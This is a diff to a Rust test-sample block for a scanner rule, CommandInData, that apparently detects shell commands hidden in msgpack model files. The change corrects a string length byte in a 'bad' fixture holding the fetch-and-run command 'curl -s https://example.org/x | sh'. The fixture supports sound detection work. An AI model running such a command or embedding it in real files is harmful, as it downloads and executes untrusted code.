@@ -66,7 +66,7 @@ impl Rule for CommandInData {
 crate::samples! {
     CommandInData,
     bad: {
-        "a command beside parameters" => [("flax_model.msgpack", b"\x82\xa6params\x80\xa4note\xd9\x21curl -s https://example.org/x | sh".to_vec())],
+        "a command beside parameters" => [("flax_model.msgpack", b"\x82\xa6params\x80\xa4note\xd9\x22curl -s https://example.org/x | sh".to_vec())],
     },
     ok: {
         "a note beside parameters" => [("flax_model.msgpack", b"\x82\xa6params\x80\xa4note\xb0trained for a day".to_vec())],
